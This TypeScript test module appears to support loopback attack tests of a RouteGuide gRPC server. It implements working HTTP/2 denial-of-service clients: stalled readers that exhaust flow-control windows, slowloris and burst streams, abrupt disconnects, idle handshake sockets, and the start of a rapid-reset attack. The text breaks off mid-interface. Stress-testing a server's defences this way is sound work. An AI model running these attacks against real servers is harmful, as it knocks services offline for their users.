/**
 * Hostile-client primitives for loopback attack tests and the benchmark: each opens a bounded
 * number of sockets or streams against a RouteGuide server, reports what the server did, and
 * closes everything it opened when stopped (also when it fails half-way).
 */
import { setMaxListeners } from 'node:events';
import http2 from 'node:http2';
import net from 'node:net';
import { performance } from 'node:perf_hooks';
import * as grpc from '@grpc/grpc-js';
import type { RouteGuideClient } from '../../src/generated/routeguide/RouteGuide';
import { newRouteGuideClient, percentile } from './probe-client';
import {
  encodePoint,
  frame,
  listFeaturesRequest as rectangleRequest,
  varint,
  type RawPoint,
} from './raw-grpc';

/** A running attack. */
export interface Attack<R> {
  /** Figures so far. */
  report(): R;
  /**
   * Ends the attack: destroys every socket it opened (or waits for its bounded calls) and
   * resolves with the final figures once all are closed. Safe to call more than once.
   */
  stop(): Promise<R>;
  /** For attacks that end by themselves (bounded rounds or calls): resolves when they have. */
  readonly finished?: Promise<void>;
}

export interface Point {
  latitude: number;
  longitude: number;
}

export interface Box {
  lo: Point;
  hi: Point;
}

/** The whole coordinate space: ListFeatures over it streams the entire database. */
export const WORLD: Box = {
  lo: { latitude: -900_000_000, longitude: -1_800_000_000 },
  hi: { latitude: 900_000_000, longitude: 1_800_000_000 },
};

export const LIST_FEATURES_PATH = '/routeguide.RouteGuide/ListFeatures';
export const RECORD_ROUTE_PATH = '/routeguide.RouteGuide/RecordRoute';
export const ROUTE_CHAT_PATH = '/routeguide.RouteGuide/RouteChat';

/** The client connection preface and an empty SETTINGS frame: a minimal HTTP/2 handshake. */
export const CLIENT_HANDSHAKE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
  Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
]);

/** A ListFeatures request body for `box`: one length-prefixed `Rectangle` message. */
export function listFeaturesRequest(box: Box = WORLD): Buffer {
  return rectangleRequest(box.lo, box.hi);
}

function hostPort(address: string): { host: string; port: number } {
  const colon = address.lastIndexOf(':');
  return { host: address.slice(0, colon), port: Number(address.slice(colon + 1)) };
}

function ignore(): void {
  /* errors of attack sockets are expected: the attacker destroys them, or the server does */
}

/** Destroys sockets and resolves once each has emitted `close` (bounded by `timeoutMs`). */
async function destroyAll(sockets: Iterable<net.Socket>, timeoutMs = 10_000): Promise<void> {
  const closing = [...sockets].map(
    (socket) =>
      new Promise<void>((resolve) => {
        if (socket.closed) return resolve();
        socket.once('close', () => resolve());
        socket.destroy();
      }),
  );
  let timer: NodeJS.Timeout | undefined;
  await Promise.race([
    Promise.all(closing),
    new Promise((resolve) => (timer = setTimeout(resolve, timeoutMs))),
  ]);
  clearTimeout(timer);
}

/** Opens an HTTP/2 session over a socket the caller can destroy; rejects after `timeoutMs`. */
function openSession(
  address: string,
  settings: http2.Settings,
  timeoutMs: number,
): Promise<{ session: http2.ClientHttp2Session; socket: net.Socket }> {
  const socket = net.connect(hostPort(address));
  socket.on('error', ignore);
  const session = http2.connect(`http://${address}`, { settings, createConnection: () => socket });
  session.on('error', ignore);
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      socket.destroy();
      reject(new Error(`HTTP/2 session to ${address} not established within ${timeoutMs} ms`));
    }, timeoutMs);
    session.once('connect', () => {
      clearTimeout(timer);
      resolve({ session, socket });
    });
    session.once('close', () => {
      clearTimeout(timer);
      reject(new Error(`HTTP/2 session to ${address} closed before it was established`));
    });
  });
}

/** Opens `count` sessions, all or none: on failure the ones already open are destroyed. */
async function openSessions(
  address: string,
  count: number,
  settings: http2.Settings,
  timeoutMs: number,
): Promise<{ session: http2.ClientHttp2Session; socket: net.Socket }[]> {
  const results = await Promise.allSettled(
    Array.from({ length: count }, () => openSession(address, settings, timeoutMs)),
  );
  const open = results.flatMap((r) => (r.status === 'fulfilled' ? [r.value] : []));
  const failed = results.find((r): r is PromiseRejectedResult => r.status === 'rejected');
  if (failed !== undefined) {
    await destroyAll(open.map((o) => o.socket));
    throw failed.reason;
  }
  return open;
}

function grpcStatusOf(headers: http2.IncomingHttpHeaders): number | undefined {
  const value = headers['grpc-status'];
  return value === undefined ? undefined : Number(value);
}

function requestHeaders(path: string): http2.OutgoingHttpHeaders {
  return { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' };
}

// --- stalled readers -------------------------------------------------------------------------

export interface StalledReadersOptions {
  /** ListFeatures streams in total. */
  readonly streams: number;
  /** Connections they are spread over (round robin). */
  readonly connections: number;
  /** The rectangle each stream asks for. Default {@link WORLD}. */
  readonly box?: Box;
  /**
   * The client's SETTINGS_INITIAL_WINDOW_SIZE: what the server may send on a stream before it
   * must wait for a WINDOW_UPDATE, which this client never sends. Default 1024 bytes.
   */
  readonly initialWindowSize?: number;
  /** Longest wait for connections, and then for the server to answer the streams. Default 10 s. */
  readonly openTimeoutMs?: number;
}

export interface StalledReadersReport {
  readonly connections: number;
  /** Streams requested. */
  readonly streams: number;
  /** Streams that got response headers with no status yet: the server is serving them. */
  readonly answered: number;
  /** Streams the server ended with a non-OK grpc-status, by status. */
  readonly refused: Record<string, number>;
  /** Streams reset by the server or whose session the server closed, before the attacker stopped. */
  readonly resetByServer: number;
  /** performance.now() when the last socket closed (after stop), else NaN. */
  readonly closedAt: number;
}

/**
 * ListFeatures streams whose client never reads: the server's flow-control window fills after
 * `initialWindowSize` bytes and every further feature waits in the server. `stop()` then
 * vanishes: the sockets are destroyed without closing a stream.
 */
export async function stalledReaders(
  address: string,
  options: StalledReadersOptions,
): Promise<Attack<StalledReadersReport>> {
  const openTimeoutMs = options.openTimeoutMs ?? 10_000;
  const sessions = await openSessions(
    address,
    options.connections,
    { initialWindowSize: options.initialWindowSize ?? 1024, enablePush: false },
    openTimeoutMs,
  );
  const body = listFeaturesRequest(options.box ?? WORLD);
  const refused: Record<string, number> = {};
  let answered = 0;
  let resetByServer = 0;
  let stopping = false;
  let closedAt = NaN;
  const settled: Promise<void>[] = [];
  for (let i = 0; i < options.streams; i++) {
    const { session } = sessions[i % sessions.length]!;
    if (session.closed || session.destroyed) break;
    const stream = session.request(requestHeaders(LIST_FEATURES_PATH));
    stream.on('error', ignore);
    // Never read: no 'data' listener, and the stream stays paused.
    stream.pause();
    settled.push(
      new Promise<void>((resolve) => {
        const outcome = (headers: http2.IncomingHttpHeaders): void => {
          const status = grpcStatusOf(headers);
          if (status === undefined) answered++;
          else if (status !== grpc.status.OK) {
            const name = grpc.status[status] ?? String(status);
            refused[name] = (refused[name] ?? 0) + 1;
          }
          resolve();
        };
        stream.once('response', outcome);
        stream.once('trailers', outcome);
        stream.once('close', () => {
          if (!stopping && stream.rstCode !== http2.constants.NGHTTP2_NO_ERROR) resetByServer++;
          resolve();
        });
      }),
    );
    stream.end(body);
  }
  // Every stream answered (or refused, or reset), or the server is too slow to tell.
  let timer: NodeJS.Timeout | undefined;
  await Promise.race([
    Promise.all(settled),
    new Promise((resolve) => (timer = setTimeout(resolve, openTimeoutMs))),
  ]);
  clearTimeout(timer);
  const report = (): StalledReadersReport => ({
    connections: sessions.length,
    streams: options.streams,
    answered,
    refused: { ...refused },
    resetByServer,
    closedAt,
  });
  let stopped: Promise<StalledReadersReport> | undefined;
  return {
    report,
    stop: () =>
      (stopped ??= (async () => {
        stopping = true;
        await destroyAll(sessions.map((s) => s.socket));
        closedAt = performance.now();
        return report();
      })()),
  };
}

// --- client-streaming attackers: what the server did with each stream -------------------------

/** What the server did with one attacking stream, as far as the attacker saw. */
interface StreamFate {
  /** Response headers without a grpc-status: the server took the call and answers it. */
  answered: boolean;
  /** The grpc-status the server ended the stream with, if it did. */
  status: number | undefined;
  /**
   * The RST_STREAM code of a stream the server reset (or whose session it closed) before the
   * attacker stopped, else undefined.
   */
  resetCode: number | undefined;
  /** Bytes of request messages the attacker meant to send on this stream. */
  readonly triedBytes: number;
  /** Bytes of request messages whose write completed: the server's flow control let them out. */
  sentBytes: number;
  /** Messages whose write completed. */
  sentMessages: number;
  /** Resolves once the server answered, ended or reset the stream. */
  readonly settled: Promise<void>;
}

/** Follows how the server answers `stream`; a close while `stopping()` is the attacker's own. */
function watchStream(
  stream: http2.ClientHttp2Stream,
  triedBytes: number,
  stopping: () => boolean,
): StreamFate {
  let settle: () => void = ignore;
  const fate: StreamFate = {
    answered: false,
    status: undefined,
    resetCode: undefined,
    triedBytes,
    sentBytes: 0,
    sentMessages: 0,
    settled: new Promise<void>((resolve) => (settle = resolve)),
  };
  const outcome = (headers: http2.IncomingHttpHeaders): void => {
    const status = grpcStatusOf(headers);
    if (status === undefined) fate.answered = true;
    else fate.status = status;
    settle();
  };
  stream.on('error', ignore);
  stream.once('response', outcome);
  stream.once('trailers', outcome);
  stream.once('close', () => {
    if (!stopping() && fate.status === undefined && stream.rstCode !== undefined) {
      if (stream.rstCode !== http2.constants.NGHTTP2_NO_ERROR) fate.resetCode = stream.rstCode;
    }
    settle();
  });
  return fate;
}

/** Writes `chunk` (`messages` request messages), counted on `fate` once its write completes. */
function send(
  stream: http2.ClientHttp2Stream,
  fate: StreamFate,
  chunk: Buffer,
  messages: number,
  written?: () => void,
): boolean {
  if (stream.closed || stream.destroyed) {
    written?.();
    return true;
  }
  return stream.write(chunk, (error) => {
    if (!error) {
      fate.sentBytes += chunk.length;
      fate.sentMessages += messages;
    }
    written?.();
  });
}

/** Resolves once `stream` drains or closes, or `signal` aborts. */
function drained(stream: http2.ClientHttp2Stream, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      stream.off('drain', done);
      stream.off('close', done);
      signal.removeEventListener('abort', done);
      resolve();
    };
    if (signal.aborted || stream.closed) return resolve();
    stream.on('drain', done);
    stream.on('close', done);
    signal.addEventListener('abort', done, { once: true });
  });
}

/** Resolves after `ms`, or at once when `signal` aborts. */
function pause(ms: number, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => {
      clearTimeout(timer);
      signal.removeEventListener('abort', done);
      resolve();
    };
    const timer = setTimeout(done, ms);
    signal.addEventListener('abort', done, { once: true });
  });
}

/** Resolves once `signal` aborts. */
function aborted(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve(), { once: true });
  });
}

/** An abort controller for many streams: each waiting stream listens to its signal. */
function haltSwitch(): AbortController {
  const controller = new AbortController();
  setMaxListeners(0, controller.signal);
  return controller;
}

/** Resolves once every promise has, or after `timeoutMs`. */
async function allWithin(promises: Promise<unknown>[], timeoutMs: number): Promise<void> {
  let timer: NodeJS.Timeout | undefined;
  await Promise.race([
    Promise.all(promises),
    new Promise((resolve) => (timer = setTimeout(resolve, timeoutMs))),
  ]);
  clearTimeout(timer);
}

/** Refusals by grpc-status name (any non-OK status the server ended a stream with). */
function refusals(fates: readonly StreamFate[]): Record<string, number> {
  const refused: Record<string, number> = {};
  for (const { status } of fates) {
    if (status === undefined || status === grpc.status.OK) continue;
    const name = grpc.status[status] ?? String(status);
    refused[name] = (refused[name] ?? 0) + 1;
  }
  return refused;
}

/** HTTP/2 error codes by value (RFC 9113 §7). */
const HTTP2_ERRORS = [
  'NO_ERROR',
  'PROTOCOL_ERROR',
  'INTERNAL_ERROR',
  'FLOW_CONTROL_ERROR',
  'SETTINGS_TIMEOUT',
  'STREAM_CLOSED',
  'FRAME_SIZE_ERROR',
  'REFUSED_STREAM',
  'CANCEL',
  'COMPRESSION_ERROR',
  'CONNECT_ERROR',
  'ENHANCE_YOUR_CALM',
  'INADEQUATE_SECURITY',
  'HTTP_1_1_REQUIRED',
];

/** Streams the server reset, by RST_STREAM code name. */
function resets(fates: readonly StreamFate[]): Record<string, number> {
  const byCode: Record<string, number> = {};
  for (const { resetCode } of fates) {
    if (resetCode === undefined) continue;
    const name = HTTP2_ERRORS[resetCode] ?? String(resetCode);
    byCode[name] = (byCode[name] ?? 0) + 1;
  }
  return byCode;
}

function sum(fates: readonly StreamFate[], field: (fate: StreamFate) => number): number {
  return fates.reduce((total, fate) => total + field(fate), 0);
}

// --- stalled chats ---------------------------------------------------------------------------

export interface StalledChatsOptions {
  readonly connections: number;
  /** RouteChat streams opened on each connection. */
  readonly streamsPerConnection: number;
  /** Notes each stream tries to send. */
  readonly notesPerStream: number;
  /** Longest note message, in bytes; messages range from a quarter of it up to it. */
  readonly noteBytes: number;
  /**
   * Distinct locations every note is left at, so that each note stored adds to a replay that
   * all later notes there get back (up to the server's per-location cap). Default 4.
   */
  readonly locations?: number;
  /** The client's SETTINGS_INITIAL_WINDOW_SIZE, never replenished. Default 1024 bytes. */
  readonly initialWindowSize?: number;
  /**
   * Pause between one connection's streams and the next connection's, so that admission sees
   * the memory of the streams already stalled. Default 0: all at once (one turn each).
   */
  readonly openIntervalMs?: number;
  /** Longest wait for connections, and then for the server to answer the streams. Default 10 s. */
  readonly openTimeoutMs?: number;
}

export interface StalledChatsReport {
  readonly connections: number;
  /** Streams opened. */
  readonly streams: number;
  /**
   * Streams the server answered (response headers, then a replay): admitted, then stalled.
   * Some of them may have been reset since (shed).
   */
  readonly admitted: number;
  /** Streams the server ended with a non-OK grpc-status, by status. */
  readonly refused: Record<string, number>;
  /**
   * Streams reset by the server, or whose session it closed, before the attacker stopped, by
   * RST_STREAM code (ENHANCE_YOUR_CALM: shed).
   */
  readonly resetByServer: Record<string, number>;
  /** Streams with no answer from the server yet. */
  readonly unanswered: number;
  /** Framed note bytes the admitted streams were to send. */
  readonly noteBytesTried: number;
  /** Of those, bytes the server's flow control let out (their writes completed). */
  readonly noteBytesSent: number;
  /** Notes the admitted streams got out. */
  readonly notesSent: number;
  /** The most note bytes one admitted stream got out. */
  readonly maxNoteBytesSentPerStream: number;
  /** Note bytes that went out on streams the server refused, before the refusal reached them. */
  readonly noteBytesSentOnRefused: number;
  readonly closedAt: number;
}

/** Valid, distinct locations near one another. */
function chatLocations(count: number): RawPoint[] {
  return Array.from({ length: count }, (_, i) => ({
    latitude: 407_000_000 + 1000 * i,
    longitude: -740_000_000,
  }));
}

/** One length-prefixed `RouteNote` message. */
export function routeNote(location: RawPoint, message: string): Buffer {
  const point = encodePoint(location);
  const text = Buffer.from(message, 'utf8');
  return frame(
    Buffer.concat([
      Buffer.from([0x0a, point.length, ...point, 0x12, ...varint(text.length)]),
      text,
    ]),
  );
}

/** A fixed set of notes at `locations`, of `noteBytes / 4` to `noteBytes` bytes of text each. */
function notePool(locations: readonly RawPoint[], noteBytes: number): Buffer[] {
  const shortest = Math.max(1, Math.floor(noteBytes / 4));
  return Array.from({ length: 64 }, (_, k) => {
    const bytes = shortest + ((k * 7919) % (noteBytes - shortest + 1));
    const text = `note ${k} `.padEnd(bytes, String.fromCharCode(97 + (k % 26)));
    return routeNote(locations[k % locations.length]!, text.slice(0, bytes));
  });
}

/**
 * RouteChat streams whose client sends notes and never reads. All notes are left at a few
 * locations, so each one stored makes every later note's replay longer, and the client's
 * HTTP/2 window (never replenished) lets out about one replayed note per stream: the server
 * must then stop reading the stream's notes, which blocks the attacker's writes (it keeps
 * writing whenever its stream drains). `stop()` vanishes: the sockets are destroyed.
 */
export async function stalledChats(
  address: string,
  options: StalledChatsOptions,
): Promise<Attack<StalledChatsReport>> {
  const openTimeoutMs = options.openTimeoutMs ?? 10_000;
  const sessions = await openSessions(
    address,
    options.connections,
    { initialWindowSize: options.initialWindowSize ?? 1024, enablePush: false },
    openTimeoutMs,
  );
  const pool = notePool(chatLocations(options.locations ?? 4), options.noteBytes);
  const halt = haltSwitch();
  const fates: StreamFate[] = [];
  const pumps: Promise<void>[] = [];
  let closedAt = NaN;
  const writeNotes = async (
    stream: http2.ClientHttp2Stream,
    fate: StreamFate,
    first: number,
  ): Promise<void> => {
    for (let i = 0; i < options.notesPerStream; i++) {
      if (halt.signal.aborted || stream.closed || stream.destroyed) return;
      if (!send(stream, fate, pool[(first + i) % pool.length]!, 1))
        await drained(stream, halt.signal);
    }
  };
  for (const [c, { session }] of sessions.entries()) {
    // One connection's streams per event-loop turn, so opening them stalls no other client.
    if (c > 0 && options.openIntervalMs !== undefined && options.openIntervalMs > 0)
      await pause(options.openIntervalMs, halt.signal);
    else if (c > 0) await new Promise((resolve) => setImmediate(resolve));
    for (let s = 0; s < options.streamsPerConnection; s++) {
      if (session.closed || session.destroyed) break;
      const first = c * options.streamsPerConnection + s;
      let tried = 0;
      for (let i = 0; i < options.notesPerStream; i++)
        tried += pool[(first + i) % pool.length]!.length;
      const stream = session.request(requestHeaders(ROUTE_CHAT_PATH));
      // Never read: no 'data' listener, and the stream stays paused.
      stream.pause();
      const fate = watchStream(stream, tried, () => halt.signal.aborted);
      fates.push(fate);
      pumps.push(writeNotes(stream, fate, first));
    }
  }
  // Every stream answered (or refused, or reset), or the server is too slow to tell.
  await allWithin(
    fates.map((f) => f.settled),
    openTimeoutMs,
  );
  const report = (): StalledChatsReport => {
    const admitted = fates.filter((f) => f.answered && f.status === undefined);
    const refused = fates.filter((f) => f.status !== undefined && f.status !== grpc.status.OK);
    return {
      connections: sessions.length,
      streams: fates.length,
      admitted: admitted.length,
      refused: refusals(fates),
      resetByServer: resets(fates),
      unanswered: fates.filter(
        (f) => !f.answered && f.status === undefined && f.resetCode === undefined,
      ).length,
      noteBytesTried: sum(admitted, (f) => f.triedBytes),
      noteBytesSent: sum(admitted, (f) => f.sentBytes),
      notesSent: sum(admitted, (f) => f.sentMessages),
      maxNoteBytesSentPerStream: Math.max(0, ...admitted.map((f) => f.sentBytes)),
      noteBytesSentOnRefused: sum(refused, (f) => f.sentBytes),
      closedAt,
    };
  };
  let stopped: Promise<StalledChatsReport> | undefined;
  return {
    report,
    stop: () =>
      (stopped ??= (async () => {
        halt.abort();
        await destroyAll(sessions.map((s) => s.socket));
        closedAt = performance.now();
        await allWithin(pumps, 10_000);
        return report();
      })()),
  };
}

// --- slow and bursting routes ----------------------------------------------------------------

export interface SlowRoutesOptions {
  readonly connections: number;
  /** RecordRoute streams opened on each connection. */
  readonly streamsPerConnection: number;
  /** Points each stream sends before it vanishes. */
  readonly pointsPerStream: number;
  /**
   * Pause between a stream's points (a slowloris on a client stream). 0 makes it a burst: the
   * points go in writes of {@link BURST_WRITE_POINTS}, as fast as flow control lets them out.
   */
  readonly intervalMs: number;
  /** Longest the streams send before they vanish anyway. Default 30 s. */
  readonly maxMs?: number;
  /** Longest wait for the connections. Default 10 s. */
  readonly openTimeoutMs?: number;
}

export interface SlowRoutesReport {
  readonly connections: number;
  /** Streams opened. */
  readonly streams: number;
  /** Streams the server still held open (no status, no reset) when the attacker vanished. */
  readonly held: number;
  /** Streams the server ended with a non-OK grpc-status, by status. */
  readonly refused: Record<string, number>;
  /**
   * Streams reset by the server, or whose session it closed, before the attacker vanished, by
   * RST_STREAM code.
   */
  readonly resetByServer: Record<string, number>;
  /** Points the held streams were to send, and those that went out (their writes completed). */
  readonly pointsTried: number;
  readonly pointsSent: number;
  /** Milliseconds from the first stream opened to the attacker vanishing. */
  readonly sendingMs: number;
  readonly closedAt: number;
}

/** Points per write of a bursting RecordRoute stream. */
export const BURST_WRITE_POINTS = 256;

const POINT_POOL_SIZE = 4096;

/**
 * `POINT_POOL_SIZE` length-prefixed `Point` messages back to back, all of one size (every
 * coordinate a four-byte varint), so any run of them is a slice.
 */
function pointPool(): { bytes: Buffer; frameBytes: number } {
  let state = 4242;
  const next = (): number => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    return 2 ** 21 + (state % (2 ** 28 - 2 ** 21));
  };
  const frames = Array.from({ length: POINT_POOL_SIZE }, () =>
    frame(Buffer.from(encodePoint({ latitude: next() % 900_000_000, longitude: next() }))),
  );
  return { bytes: Buffer.concat(frames), frameBytes: frames[0]!.length };
}

/**
 * RecordRoute streams that send points and never half-close, then vanish (their sockets are
 * destroyed) once each has sent `pointsPerStream`: slowly, one point per `intervalMs` (a
 * slowloris holding calls open), or all at once (`intervalMs` 0: a burst of work left behind).
 * The attack ends by itself; `stop()` also ends it early.
 */
export async function slowRoutes(
  address: string,
  options: SlowRoutesOptions,
): Promise<Attack<SlowRoutesReport>> {
  const burst = options.intervalMs <= 0;
  const pointsPerWrite = burst ? BURST_WRITE_POINTS : 1;
  const sessions = await openSessions(
    address,
    options.connections,
    {},
    options.openTimeoutMs ?? 10_000,
  );
  const pool = pointPool();
  const halt = haltSwitch();
  const fates: StreamFate[] = [];
  const startedAt = performance.now();
  let vanishedAt = NaN;
  let closedAt = NaN;
  const chunk = (first: number, count: number): Buffer => {
    const start = first % (POINT_POOL_SIZE - BURST_WRITE_POINTS);
    return pool.bytes.subarray(start * pool.frameBytes, (start + count) * pool.frameBytes);
  };
  const sendPoints = async (
    stream: http2.ClientHttp2Stream,
    fate: StreamFate,
    first: number,
  ): Promise<void> => {
    for (let sent = 0; sent < options.pointsPerStream;) {
      if (halt.signal.aborted || stream.closed || stream.destroyed) return;
      const count = Math.min(pointsPerWrite, options.pointsPerStream - sent);
      sent += count;
      if (sent === options.pointsPerStream) {
        // The last write: wait until it (and so every earlier one) has gone out.
        const written = new Promise<void>((resolve) =>
          send(stream, fate, chunk(first + sent, count), count, resolve),
        );
        await Promise.race([written, aborted(halt.signal)]);
        return;
      }
      const more = send(stream, fate, chunk(first + sent, count), count);
      if (!burst) await pause(options.intervalMs, halt.signal);
      else if (!more) await drained(stream, halt.signal);
    }
  };
  const pumps: Promise<void>[] = [];
  for (const [c, { session }] of sessions.entries()) {
    // One connection's streams per event-loop turn, so opening them stalls no other client.
    if (c > 0) await new Promise((resolve) => setImmediate(resolve));
    for (let s = 0; s < options.streamsPerConnection; s++) {
      if (session.closed || session.destroyed) break;
      const stream = session.request(requestHeaders(RECORD_ROUTE_PATH));
      const fate = watchStream(
        stream,
        options.pointsPerStream * pool.frameBytes,
        () => !Number.isNaN(vanishedAt),
      );
      fates.push(fate);
      pumps.push(sendPoints(stream, fate, (c * options.streamsPerConnection + s) * 7));
    }
  }
  const maxTimer = setTimeout(() => halt.abort(), options.maxMs ?? 30_000);
  const vanish = async (): Promise<void> => {
    vanishedAt = performance.now();
    clearTimeout(maxTimer);
    halt.abort();
    await destroyAll(sessions.map((s) => s.socket));
    closedAt = performance.now();
  };
  const finished = Promise.all(pumps).then(async () => {
    if (Number.isNaN(vanishedAt)) await vanish();
  });
  const report = (): SlowRoutesReport => {
    const held = fates.filter((f) => f.status === undefined && f.resetCode === undefined);
    return {
      connections: sessions.length,
      streams: fates.length,
      held: held.length,
      refused: refusals(fates),
      resetByServer: resets(fates),
      pointsTried: sum(held, (f) => f.triedBytes) / pool.frameBytes,
      pointsSent: sum(held, (f) => f.sentMessages),
      sendingMs: (Number.isNaN(vanishedAt) ? performance.now() : vanishedAt) - startedAt,
      closedAt,
    };
  };
  let stopped: Promise<SlowRoutesReport> | undefined;
  return {
    report,
    finished,
    stop: () =>
      (stopped ??= (async () => {
        if (Number.isNaN(vanishedAt)) await vanish();
        await allWithin(pumps, 10_000);
        await finished;
        return report();
      })()),
  };
}

// --- vanish mid-stream -----------------------------------------------------------------------

export interface VanishOptions {
  /** Connections opened each round. */
  readonly connections: number;
  /** ListFeatures streams per connection each round. */
  readonly streamsPerConnection: number;
  /** Bytes a stream reads before the round's sockets are destroyed. Default 64 KiB. */
  readonly readBytes?: number;
  /** Longest a round waits for its streams to read `readBytes`. Default 2000 ms. */
  readonly roundTimeoutMs?: number;
  /** Rounds at most (the attack also ends on stop()). Default 1000. */
  readonly maxRounds?: number;
  readonly box?: Box;
}

export interface VanishReport {
  readonly rounds: number;
  readonly streams: number;
  readonly bytesReceived: number;
  readonly closedAt: number;
  /** Why the rounds stopped early (a connection the server did not accept in time). */
  readonly failure?: string;
}

/**
 * Round after round: opens connections with ListFeatures streams that read normally, and once
 * each has read `readBytes` destroys the sockets abruptly (no RST_STREAM, no GOAWAY), leaving
 * the server with streams cut mid-way.
 */
export function vanishMidStream(address: string, options: VanishOptions): Attack<VanishReport> {
  const readBytes = options.readBytes ?? 64 * 1024;
  const roundTimeoutMs = options.roundTimeoutMs ?? 2000;
  const maxRounds = options.maxRounds ?? 1000;
  const body = listFeaturesRequest(options.box ?? WORLD);
  let rounds = 0;
  let streams = 0;
  let bytesReceived = 0;
  let running = true;
  let closedAt = NaN;
  const round = async (): Promise<void> => {
    const sessions = await openSessions(address, options.connections, {}, 10_000);
    try {
      const reads = sessions.flatMap(({ session }) =>
        Array.from({ length: options.streamsPerConnection }, () => {
          const stream = session.request(requestHeaders(LIST_FEATURES_PATH));
          stream.on('error', ignore);
          streams++;
          return new Promise<void>((resolve) => {
            let read = 0;
            stream.on('data', (chunk: Buffer) => {
              read += chunk.length;
              bytesReceived += chunk.length;
              if (read >= readBytes) resolve();
            });
            stream.once('close', () => resolve());
            stream.end(body);
          });
        }),
      );
      let timer: NodeJS.Timeout | undefined;
      await Promise.race([
        Promise.all(reads),
        new Promise((resolve) => (timer = setTimeout(resolve, roundTimeoutMs))),
      ]);
      clearTimeout(timer);
    } finally {
      await destroyAll(sessions.map((s) => s.socket));
    }
    rounds++;
  };
  let failure: string | undefined;
  const loop = (async () => {
    try {
      while (running && rounds < maxRounds) await round();
    } catch (error) {
      // The server stopped taking connections: the attack ends and says so.
      failure = (error as Error).message;
    }
    closedAt = performance.now();
  })();
  const report = (): VanishReport => ({
    rounds,
    streams,
    bytesReceived,
    closedAt,
    ...(failure === undefined ? {} : { failure }),
  });
  return {
    report,
    finished: loop,
    stop: async () => {
      running = false;
      await loop;
      return report();
    },
  };
}

// --- sockets that never finish the handshake -------------------------------------------------

export interface IdleSocketsOptions {
  /** TCP connections to open. */
  readonly count: number;
  /** Connection attempts in flight at once. Default 256. */
  readonly concurrency?: number;
  /** Longest wait for one connection attempt. Default 5000 ms. */
  readonly connectTimeoutMs?: number;
  /** Local address the sockets come from (another loopback address, say). Default: the OS's. */
  readonly localAddress?: string;
  /**
   * When set, each socket sends the client handshake ({@link CLIENT_HANDSHAKE}) one byte per
   * this many milliseconds (a slowloris handshake); unset, a socket sends nothing at all.
   */
  readonly byteIntervalMs?: number;
}

export interface IdleSocketsReport {
  /** Connections requested. */
  readonly count: number;
  readonly connected: number;
  /** Connection attempts that failed or timed out. */
  readonly failed: number;
  /** Sockets the server closed before the attacker stopped. */
  readonly closedByServer: number;
  /** Median time from connect to the server closing it, NaN when it closed none. */
  readonly serverCloseP50Ms: number;
  /** Handshake bytes sent over all sockets. */
  readonly bytesSent: number;
  readonly closedAt: number;
}

/**
 * TCP connections that never send the HTTP/2 client preface (or, with `byteIntervalMs`, send
 * it byte by byte), held open until stopped. Counts how many the server closes, and when.
 */
export async function idleSockets(
  address: string,
  options: IdleSocketsOptions,
): Promise<Attack<IdleSocketsReport>> {
  const { host, port } = hostPort(address);
  const concurrency = options.concurrency ?? 256;
  const connectTimeoutMs = options.connectTimeoutMs ?? 5000;
  const sockets = new Set<net.Socket>();
  const sent = new Map<net.Socket, number>();
  const serverCloseMs: number[] = [];
  let connected = 0;
  let failed = 0;
  let bytesSent = 0;
  let stopping = false;
  let closedAt = NaN;
  const connectOne = (): Promise<void> =>
    new Promise((resolve) => {
      const from = options.localAddress;
      const socket = net.connect({
        host,
        port,
        ...(from !== undefined ? { localAddress: from } : {}),
      });
      sockets.add(socket);
      let connectedAt = NaN;
      const timer = setTimeout(() => socket.destroy(), connectTimeoutMs);
      socket.on('error', ignore);
      socket.once('connect', () => {
        clearTimeout(timer);
        connectedAt = performance.now();
        connected++;
        resolve();
      });
      // Whatever the server sends (its SETTINGS, a GOAWAY) is read and dropped.
      socket.on('data', ignore);
      socket.once('close', () => {
        clearTimeout(timer);
        sockets.delete(socket);
        sent.delete(socket);
        if (Number.isNaN(connectedAt)) {
          failed++;
          resolve();
        } else if (!stopping) {
          serverCloseMs.push(performance.now() - connectedAt);
        }
      });
      if (options.byteIntervalMs !== undefined) sent.set(socket, 0);
    });
  const dribble =
    options.byteIntervalMs === undefined
      ? undefined
      : setInterval(() => {
          for (const [socket, offset] of sent) {
            if (offset >= CLIENT_HANDSHAKE.length || !socket.writable || socket.connecting)
              continue;
            socket.write(CLIENT_HANDSHAKE.subarray(offset, offset + 1));
            sent.set(socket, offset + 1);
            bytesSent++;
          }
        }, options.byteIntervalMs);
  const stop = async (): Promise<void> => {
    stopping = true;
    if (dribble !== undefined) clearInterval(dribble);
    await destroyAll(sockets);
    closedAt = performance.now();
  };
  try {
    let next = 0;
    await Promise.all(
      Array.from({ length: Math.min(concurrency, options.count) }, async () => {
        while (next < options.count && !stopping) {
          next++;
          await connectOne();
        }
      }),
    );
  } catch (error) {
    await stop();
    throw error;
  }
  const report = (): IdleSocketsReport => {
    const sorted = Float64Array.from(serverCloseMs).sort();
    return {
      count: options.count,
      connected,
      failed,
      closedByServer: serverCloseMs.length,
      serverCloseP50Ms: percentile(sorted, 0.5),
      bytesSent,
      closedAt,
    };
  };
  let stopped: Promise<IdleSocketsReport> | undefined;
  return { report, stop: () => (stopped ??= stop().then(report)) };
}

// --- rapid reset -----------------------------------------------------------------------------

export interface RapidResetOptions {
  /** Streams opened and reset at most. Default 20,000. */
  readonly maxStreams?: number;
  /** Streams per event-loop turn. Default 100. */
  readonly batch?: number;
  /** Longest the attack runs. Default 10 s. */
  readonly maxMs?: number;
  /**
   * Send the whole-world request message before the reset. Default false: HEADERS alone, so
   * the server has not answered yet when the reset arrives, which is what its reset rate limit
   * (nghttp2's, in Node) counts; with the request the handler answers at once and runs.
   */
  readonly withRequest?: boolean;
}

export interface RapidResetReport {
  /** Streams opened (each a ListFeatures request, reset at once). */
  readonly streams: number;
  /** Whether the server closed the session (GOAWAY or socket closed) before the attacker stopped. */
  readonly cutOff: boolean;
  /** Streams sent before the cut-off, when there was one. */
  readonly streamsBeforeCutOff: number;
